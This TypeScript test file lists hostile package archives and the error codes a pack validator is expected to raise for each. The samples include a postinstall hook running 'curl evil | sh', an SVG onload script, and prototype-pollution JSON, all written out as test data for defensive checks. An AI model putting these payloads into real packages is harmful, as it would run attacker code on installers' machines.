import { entriesOf, listOf, tgz } from '../tar.ts';
import { files, good, type HostileArchive, manifest, noise, withEntry, withFiles } from './base.ts';

/** Files that a pack must not hold. */
export const contents: HostileArchive[] = [
  {
    name: 'a file that is no text',
    bytes: withEntry({ name: 'package/README.md', content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]) }),
    code: 'pack.duplicateFile',
    file: 'README.md',
  },
  {
    name: 'a program that calls itself JSON',
    bytes: tgz(listOf(files), ...entriesOf(files), {
      name: 'package/items/elf.json',
      content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]),
    }),
    code: 'pack.notText',
    file: 'items/elf.json',
  },
  {
    name: 'a script',
    bytes: withFiles({ 'items/run.js': 'process.exit()' }),
    code: 'pack.executable',
    file: 'items/run.js',
  },
  {
    name: 'a picture with a script',
    bytes: withFiles({ 'documents/seal.svg': '<svg onload="alert(1)"/>' }),
    code: 'pack.executable',
    file: 'documents/seal.svg',
  },
  {
    name: 'a file at no known place',
    bytes: withFiles({ 'notes/a.json': '{}' }),
    code: 'pack.unknownFile',
    file: 'notes/a.json',
  },
  {
    name: 'an npm configuration',
    bytes: withFiles({ '.npmrc': 'ignore-scripts=false' }),
    code: 'pack.unknownFile',
    file: '.npmrc',
  },
  {
    name: 'lifecycle scripts',
    bytes: withFiles({ 'package.json': manifest({ scripts: { postinstall: 'curl evil | sh' } }) }),
    code: 'pack.executable',
    file: 'package.json',
  },
  {
    name: 'a command',
    bytes: withFiles({ 'package.json': manifest({ bin: './items/a.json' }) }),
    code: 'pack.executable',
    file: 'package.json',
  },
  {
    name: 'a main module',
    bytes: withFiles({ 'package.json': manifest({ main: 'items/a.json' }) }),
    code: 'pack.executable',
    file: 'package.json',
  },
  {
    name: 'JSON of 10,000 levels',
    bytes: withFiles({ 'items/deep.json': '['.repeat(10_000) }),
    code: 'pack.tooDeep',
    file: 'items/deep.json',
  },
  {
    name: 'JSON with __proto__',
    bytes: withFiles({ 'items/a.json': '{"__proto__": {"admin": true}}' }),
    code: 'pack.forbiddenKey',
    file: 'items/a.json',
  },
  {
    name: 'JSON with an escaped __proto__',
    bytes: withFiles({ 'items/a.json': '{"\\u005f_proto__": {"admin": true}}' }),
    code: 'pack.forbiddenKey',
    file: 'items/a.json',
  },
  {
    name: 'JSON with constructor',
    bytes: withFiles({ 'items/a.json': '{"constructor": {"prototype": {"admin": true}}}' }),
    code: 'pack.forbiddenKey',
    file: 'items/a.json',
  },
  {
    name: 'JSON with a key twice',
    bytes: withFiles({ 'items/a.json': '{"id": 1, "id": 2}' }),
    code: 'pack.duplicateKey',
    file: 'items/a.json',
  },
  {
    name: 'JSON of one string of nearly 2 MB that does not end',
    bytes: withFiles({ 'items/a.json': `"${noise(1_900_000)}` }),
    code: 'pack.json',
    file: 'items/a.json',
  },
  {
    name: 'a manifest that is null',
    bytes: tgz(
      {
        ...listOf(files),
        content: listOf({ ...files, 'package.json': 'null' }, { name: 'a', version: '1.0.0' }).content ?? '',
      },
      ...entriesOf({ ...files, 'package.json': 'null' }),
    ),
    code: 'pack.listMismatch',
    file: 'package.json',
  },
];

/** Lists that do not fit the files. */
export const lists: HostileArchive[] = [
  { name: 'no list', bytes: tgz(...entriesOf(files)), code: 'pack.listMissing', file: 'wutong-manifest.json' },
  {
    name: 'a list that is no JSON',
    bytes: tgz({ name: 'package/wutong-manifest.json', content: 'x' }, ...entriesOf(files)),
    code: 'pack.json',
    file: 'wutong-manifest.json',
  },
  {
    name: 'a list of another format',
    bytes: tgz(listOf(files, { formatVersion: 2 }), ...entriesOf(files)),
    code: 'pack.listWrong',
    file: 'wutong-manifest.json',
  },
  {
    name: 'a list with one member more',
    bytes: tgz(listOf(files, { trusted: true }), ...entriesOf(files)),
    code: 'pack.listWrong',
    file: 'wutong-manifest.json',
  },
  {
    name: 'a list that is not canonical',
    bytes: tgz({ ...listOf(files), content: ` ${listOf(files).content}` }, ...entriesOf(files)),
    code: 'pack.listWrong',
    file: 'wutong-manifest.json',
  },
  {
    name: 'a list for another version',
    bytes: tgz(listOf(files, { version: '9.9.9' }), ...entriesOf(files)),
    code: 'pack.listMismatch',
    file: 'package.json',
  },
  {
    name: 'a list for another pack',
    bytes: tgz(listOf(files, { name: '@wutong/other' }), ...entriesOf(files)),
    code: 'pack.listMismatch',
    file: 'package.json',
  },
  {
    name: 'a list with another digest',
    bytes: tgz(listOf(files, { digest: '0'.repeat(64) }), ...entriesOf(files)),
    code: 'pack.listMismatch',
    file: 'wutong-manifest.json',
  },
  {
    name: 'a file that is not listed',
    bytes: tgz(...good, { name: 'package/items/a.json', content: '{}' }),
    code: 'pack.unlisted',
    file: 'items/a.json',
  },
  {
    name: 'a listed file that is not there',
    bytes: tgz(listOf({ ...files, 'items/a.json': '{}' }), ...entriesOf(files)),
    code: 'pack.missingFile',
    file: 'items/a.json',
  },
  {
    name: 'a file that was changed',
    bytes: tgz(listOf(files), ...entriesOf({ ...files, 'README.md': '# 风筝！\n' })),
    code: 'pack.hashMismatch',
    file: 'README.md',
  },
];
